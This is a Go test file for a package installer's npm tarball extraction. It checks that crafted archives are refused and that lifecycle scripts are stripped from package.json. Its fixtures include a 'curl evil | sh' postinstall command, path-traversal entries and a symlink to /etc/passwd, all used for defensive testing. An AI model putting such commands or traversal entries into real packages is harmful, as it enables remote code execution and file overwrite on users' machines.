package installer

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestExtractRefusesUnsafeEntries runs the installer's own npm extraction
// (install.py, with the host's python3) on hostile tarballs: the mirror
// already refuses them at admission, and the installer must too.
func TestExtractRefusesUnsafeEntries(t *testing.T) {
	t.Parallel()
	py := "/usr/bin/python3" // the rootfs' kind of python; pyenv shims are slow
	if _, err := os.Stat(py); err != nil {
		if py, err = exec.LookPath("python3"); err != nil {
			t.Skip("no python3")
		}
	}
	dir := t.TempDir()
	script := filepath.Join(dir, "install.py")
	if err := os.WriteFile(script, installScript, 0o644); err != nil {
		t.Fatal(err)
	}
	type entry struct {
		name, link string
		typ        byte
		body       string
	}
	cases := []struct {
		name    string
		entries []entry
		ok      bool
	}{
		{"plain", []entry{{name: "package/package.json", body: "{}"}, {name: "package/lib/a.js", body: "1"}}, true},
		{"dotdot", []entry{{name: "package/../../evil.js", body: "x"}}, false},
		{"absolute", []entry{{name: "/etc/evil", body: "x"}}, false},
		{"types folder", []entry{{name: "node/package.json", body: "{}"}, {name: "node/index.d.ts", body: "1"}}, true},
		{"two top folders", []entry{{name: "package/package.json", body: "{}"}, {name: "other/a.js", body: "x"}}, false},
		{"top-level file", []entry{{name: "a.js", body: "x"}}, false},
		{"dot top", []entry{{name: "./a.js", body: "x"}}, false},
		{"dotdot top", []entry{{name: "../a.js", body: "x"}}, false},
		{"symlink", []entry{{name: "package/link", link: "/etc/passwd", typ: tar.TypeSymlink}}, false},
		{"hardlink", []entry{{name: "package/hl", link: "package/a", typ: tar.TypeLink}}, false},
		{"device", []entry{{name: "package/dev", typ: tar.TypeChar}}, false},
		{"fifo", []entry{{name: "package/fifo", typ: tar.TypeFifo}}, false},
		{"too big", []entry{{name: "package/big", body: strings.Repeat("x", 2048)}}, false},
		{"duplicate", []entry{{name: "package/a", body: "1"}, {name: "package/a", body: "2"}}, false},
	}
	for i, tc := range cases {
		var buf bytes.Buffer
		gw := gzip.NewWriter(&buf)
		tw := tar.NewWriter(gw)
		for _, e := range tc.entries {
			typ := e.typ
			if typ == 0 {
				typ = tar.TypeReg
			}
			h := &tar.Header{Name: e.name, Linkname: e.link, Typeflag: typ, Mode: 0o644}
			if typ == tar.TypeReg {
				h.Size = int64(len(e.body))
			}
			if err := tw.WriteHeader(h); err != nil {
				t.Fatal(err)
			}
			tw.Write([]byte(e.body))
		}
		tw.Close()
		gw.Close()
		tgz := filepath.Join(dir, "p.tgz")
		os.WriteFile(tgz, buf.Bytes(), 0o644)
		dest := filepath.Join(dir, "out", string(rune('a'+i)))
		os.MkdirAll(dest, 0o755)
		code := `import sys; sys.path.insert(0, sys.argv[1]); import install
install.extract_npm(open(sys.argv[2], "rb").read(), sys.argv[3], {"max_entries": 10, "max_bytes": 1024})`
		out, err := exec.Command(py, "-I", "-c", code, dir, tgz, dest).CombinedOutput()
		if (err == nil) != tc.ok {
			t.Errorf("%s: err %v: %s", tc.name, err, out)
		}
		if _, err := os.Lstat(filepath.Join(dir, "evil.js")); err == nil {
			t.Fatalf("%s: wrote outside the destination", tc.name)
		}
	}
}

// TestExtractStripsManifest: the mirror serves npm tarballs as published,
// so extraction into a session is where lifecycle scripts and dependency
// fields leave package.json. Hostile manifests fail the extraction; one
// with nothing to strip stays byte for byte.
func TestExtractStripsManifest(t *testing.T) {
	t.Parallel()
	py, dir := hostPython(t)
	cases := []struct {
		name     string
		manifest string
		extra    map[string]string // more entries (under package/)
		ok       bool
		want     string // package.json after extraction ("" = as given)
	}{
		{name: "nothing to strip", manifest: `{"name":"a","version":"1.0.0","scripts":{"test":"x"}}`, ok: true},
		{name: "lifecycle scripts and deps", ok: true,
			manifest: `{"name":"a","version":"1.0.0","scripts":{"preinstall":"x","install":"y","postinstall":"z","preuninstall":"1","uninstall":"2","postuninstall":"3","test":"t"},` +
				`"dependencies":{"ms":"^2"},"optionalDependencies":{},"peerDependencies":{"p":"1"},"peerDependenciesMeta":{},"bundleDependencies":[],"bundledDependencies":true,` +
				`"gypfile":true,"_hasShrinkwrap":false,"hasInstallScript":true,"devDependencies":{"mocha":"*"}}`,
			want: "{\n  \"devDependencies\": {\n    \"mocha\": \"*\"\n  },\n  \"name\": \"a\",\n  \"scripts\": {\n    \"test\": \"t\"\n  },\n  \"version\": \"1.0.0\"\n}\n"},
		{name: "only lifecycle scripts", ok: true, manifest: `{"name":"a","scripts":{"postinstall":"curl evil | sh"}}`,
			want: "{\n  \"name\": \"a\"\n}\n"},
		{name: "scripts not an object", ok: true, manifest: `{"name":"a","scripts":"postinstall"}`, want: "{\n  \"name\": \"a\"\n}\n"},
		{name: "duplicate keys, last wins", ok: true, manifest: `{"name":"a","dependencies":{},"dependencies":{"x":"1"}}`, want: "{\n  \"name\": \"a\"\n}\n"},
		{name: "unicode kept", ok: true, manifest: `{"name":"a","description":"caf\u00e9 ☕","dependencies":{}}`,
			want: "{\n  \"description\": \"café ☕\",\n  \"name\": \"a\"\n}\n"},
		{name: "nested manifest untouched", ok: true, manifest: `{"name":"a"}`,
			extra: map[string]string{"node_modules/b/package.json": `{"name":"b","scripts":{"postinstall":"z"}}`}},
		{name: "not json", manifest: `{"name":`},
		{name: "an array", manifest: `[{"scripts":{"postinstall":"x"}}]`},
		{name: "a string", manifest: `"x"`},
		{name: "deep nesting", manifest: strings.Repeat("[", 100000) + strings.Repeat("]", 100000)},
		{name: "missing", manifest: ""},
	}
	for i, tc := range cases {
		var buf bytes.Buffer
		gw := gzip.NewWriter(&buf)
		tw := tar.NewWriter(gw)
		files := map[string]string{"index.js": "1"}
		if tc.manifest != "" {
			files["package.json"] = tc.manifest
		}
		for k, v := range tc.extra {
			files[k] = v
		}
		for name, body := range files {
			if err := tw.WriteHeader(&tar.Header{Name: "package/" + name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(body))}); err != nil {
				t.Fatal(err)
			}
			tw.Write([]byte(body))
		}
		tw.Close()
		gw.Close()
		tgz := filepath.Join(dir, "p.tgz")
		os.WriteFile(tgz, buf.Bytes(), 0o644)
		dest := filepath.Join(dir, "out", string(rune('a'+i)))
		os.MkdirAll(dest, 0o755)
		code := `import sys; sys.path.insert(0, sys.argv[1]); import install
install.extract_npm(open(sys.argv[2], "rb").read(), sys.argv[3], {"max_entries": 10, "max_bytes": 1 << 20})`
		out, err := exec.Command(py, "-I", "-c", code, dir, tgz, dest).CombinedOutput()
		if (err == nil) != tc.ok {
			t.Errorf("%s: err %v: %s", tc.name, err, out)
			continue
		}
		if !tc.ok {
			continue
		}
		got, err := os.ReadFile(filepath.Join(dest, "package.json"))
		if err != nil {
			t.Fatal(err)
		}
		want := tc.want
		if want == "" {
			want = tc.manifest
		}
		if string(got) != want {
			t.Errorf("%s: package.json =\n%s\nwant\n%s", tc.name, got, want)
		}
		for k, v := range tc.extra {
			if b, _ := os.ReadFile(filepath.Join(dest, k)); string(b) != v {
				t.Errorf("%s: %s changed: %s", tc.name, k, b)
			}
		}
	}
}
